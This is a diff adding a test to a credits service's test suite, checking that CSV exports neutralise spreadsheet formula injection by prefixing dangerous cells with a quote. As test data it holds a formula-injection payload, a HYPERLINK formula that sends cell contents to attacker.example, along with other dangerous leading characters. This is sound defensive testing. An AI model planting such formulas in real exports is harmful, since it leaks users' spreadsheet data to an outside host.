@@ -7,7 +7,7 @@ import { expect } from 'chai';
 import { execFile } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
 import { reserveForDocument, settleDocumentReservation } from '../../commands/credits/metering.js';
-import { CSV_COLUMNS } from '../../http/credits/csv.js';
+import { CSV_COLUMNS, csvLine } from '../../http/credits/csv.js';
 import { parseCsv } from '../support/csv.js';
 import { allowanceJson } from '../../http/credits/present.js';
 import { ManualClock } from '../../platform/clock.js';
@@ -220,6 +220,32 @@ describe('credits: ledger, exports, audit', function () {
     const gone = await rc.raw('GET', `/exports/${exportId}/download`);
     expect(gone.status).to.equal(410);
     expect(connectError(gone).code).to.equal('CONNECT_CREDIT_EXPORT_EXPIRED');
+  });
+
+  it('neutralises spreadsheet formulas in exported cells (OWASP): the parsed CSV holds the value prefixed with a quote', async () => {
+    const c = await creditsTenant(t);
+    await issue(t, c.workspaceId, 100);
+    const reason = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
+    await createCurrent(c, clock.now(), { limit: 10, reason });
+    const noKey = await c.write('POST', '/exports', { format: 'csv' }, { 'idempotency-key': undefined });
+    expect(noKey.status).to.equal(400);
+    expect(connectError(noKey).path).to.deep.equal(['headers', 'Idempotency-Key']);
+    expect(connectError(noKey).message).to.match(/Idempotency-Key header is required on credit writes.*retried write never moves credits twice/);
+    const requested = await c.write('POST', '/exports', { format: 'csv', filters: { companyId: c.companyId } });
+    expect(requested.status, requested.text).to.equal(202);
+    const exportId = requested.json.data.exportId;
+    const deadline = Date.now() + 15_000;
+    while ((await c.get(`/exports/${exportId}`)).json.data.status === 'accepted' && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
+    const download = await c.raw('GET', `/exports/${exportId}/download`);
+    expect(download.status).to.equal(200);
+    const rows = parseCsv(download.text);
+    expect(rows[1]![CSV_COLUMNS.indexOf('reason')]).to.equal(`'${reason}`);
+
+    // Every dangerous first character, as the CSV parser reads the cell back; numbers stay numbers.
+    for (const value of ['=1+1', '+1', '-1', '@SUM(A1)', '\tcmd', '\rcmd', '\uff1d1']) {
+      const [parsed] = parseCsv(csvLine([value, -5, 'plain']));
+      expect(parsed).to.deep.equal([`'${value}`, '-5', 'plain']);
+    }
   });
 
   it('the audit CLI reconstructs a company\'s balance as of any instant from the events alone, equal to the read model', async () => {
